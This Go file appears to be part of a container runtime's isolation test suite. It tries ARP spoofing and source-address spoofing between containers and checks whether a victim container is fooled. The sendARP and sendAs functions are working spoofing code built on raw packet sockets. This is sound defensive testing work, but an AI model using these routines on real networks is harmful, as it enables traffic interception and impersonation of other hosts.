package escape

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// What a container sends to its neighbours in another's name.
var networkWays = []way{
	{
		name: "ARP of a neighbour", build: "self", online: true,
		cuts: []cut{{"network/link.go", "if guarded {", "if false {"}},
		try: func(s *scene) string {
			neighbour, victim := s.begin(nil, "idle"), ""
			address := s.ok("inspect", "-f", "{{.NetworkSettings.Networks.bridge.IPAddress}} {{.NetworkSettings.Networks.bridge.MacAddress}}", neighbour)
			ip, mac, _ := strings.Cut(address, " ")
			victim = s.begin(nil, "arp-victim", ip, mac)
			s.attack(nil, "arp", ip)
			return logged(s, victim)
		},
	}, {
		name: "address of a neighbour", build: "self", online: true,
		try: func(s *scene) string {
			neighbour, victim := s.begin(nil, "idle"), s.begin(nil, "listen")
			address := func(id string) string {
				return s.ok("inspect", "-f", "{{.NetworkSettings.Networks.bridge.IPAddress}}", id)
			}
			s.attack(nil, "send", address(neighbour), address(victim))
			return logged(s, victim)
		},
	},
}

// logged is what a victim says, who goes on.
func logged(s *scene, victim string) string {
	if _, how, ok := strings.Cut(s.ok("logs", victim), "OUT "); ok {
		return strings.TrimSpace(how)
	}
	return ""
}

func init() {
	attacks["arp"] = sendARP
	attacks["arp-victim"] = arpVictim
	attacks["send"] = sendAs
	attacks["listen"] = listen
}

// arpVictim talks to a neighbour until it takes another for it.
func arpVictim(args []string) string {
	conn, err := net.Dial("udp", args[0]+":9")
	if err != nil {
		return err.Error()
	}
	fmt.Println("up")
	for {
		conn.Write([]byte("x"))
		table, _ := os.ReadFile("/proc/net/arp")
		for line := range strings.Lines(string(table)) {
			f := strings.Fields(line)
			if f[0] == args[0] && f[3] != args[1] && f[3] != "00:00:00:00:00:00" {
				return fmt.Sprintf("%s has become %s, and was %s", f[0], f[3], args[1])
			}
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// sendARP answers for a neighbour, whom nobody has asked for, for as long as entries
// that have just been confirmed are kept.
func sendARP(args []string) string {
	eth0, err := net.InterfaceByName("eth0")
	if err != nil {
		return err.Error()
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	if err != nil {
		return held("packet socket: %v", err)
	}
	everybody := []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	ip := net.ParseIP(args[0]).To4()
	frame := bytes.Join([][]byte{everybody, eth0.HardwareAddr, {8, 6, 0, 1, 8, 0, 6, 4, 0, 2}, eth0.HardwareAddr, ip, everybody, ip}, nil)
	for range 150 {
		to := unix.SockaddrLinklayer{Ifindex: eth0.Index, Halen: 6, Addr: [8]byte(append(everybody, 0, 0))}
		if err := unix.Sendto(fd, frame, 0, &to); err != nil {
			return held("send: %v", err)
		}
		time.Sleep(10 * time.Millisecond)
	}
	return ""
}

// listen tells who has sent it something.
func listen([]string) string {
	conn, err := net.ListenPacket("udp4", ":9")
	if err != nil {
		return err.Error()
	}
	fmt.Println("up")
	_, from, err := conn.ReadFrom(make([]byte, 100))
	if err != nil {
		return err.Error()
	}
	fmt.Println("OUT a packet has come in the name of", from)
	select {}
}

// sendAs sends a datagram from another's address: raw(7), IP_HDRINCL.
func sendAs(args []string) string {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return held("raw socket: %v", err)
	}
	from, to := [4]byte(net.ParseIP(args[0]).To4()), [4]byte(net.ParseIP(args[1]).To4())
	packet := make([]byte, 32)
	packet[0], packet[8], packet[9] = 0x45, 64, unix.IPPROTO_UDP
	copy(packet[12:], from[:])
	copy(packet[16:], to[:])
	binary.BigEndian.PutUint16(packet[20:], 999)
	binary.BigEndian.PutUint16(packet[22:], 9)
	binary.BigEndian.PutUint16(packet[24:], 12)
	for range 20 {
		if err := unix.Sendto(fd, packet, 0, &unix.SockaddrInet4{Addr: to}); err != nil {
			return held("send: %v", err)
		}
		time.Sleep(10 * time.Millisecond)
	}
	return ""
}
